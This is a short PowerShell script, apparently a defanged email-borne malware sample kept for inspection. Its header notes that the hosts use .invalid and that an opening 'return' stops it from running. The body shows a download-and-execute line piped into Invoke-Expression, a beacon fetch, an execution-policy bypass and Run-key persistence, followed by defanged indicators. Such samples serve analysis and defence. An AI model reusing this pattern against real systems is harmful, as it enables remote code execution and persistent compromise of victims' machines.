# "Update helper" that came with a mail. The hosts end in .invalid, which can never exist, and the
# first line ends the script: it is here to be looked at, not to be run.
return

Set-ExecutionPolicy Bypass
$source = 'https://cdn-updates.invalid/stage/payload.txt'
$target = Join-Path $env:TEMP 'update-helper.txt'

Invoke-WebRequest $source -UseBasicParsing | Invoke-Expression
Invoke-WebRequest 'https://telemetry-sync.invalid/beacon?id=1001' -OutFile $target

$hidden = [Convert]::FromBase64String('V3JpdGUtSG9zdCAnaGVsbG8n')
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'UpdateHelper' -Value $target

# Seen with it: hxxps://cdn-updates[.]invalid/stage/2, 203.0.113[.]77, CVE-2023-36884
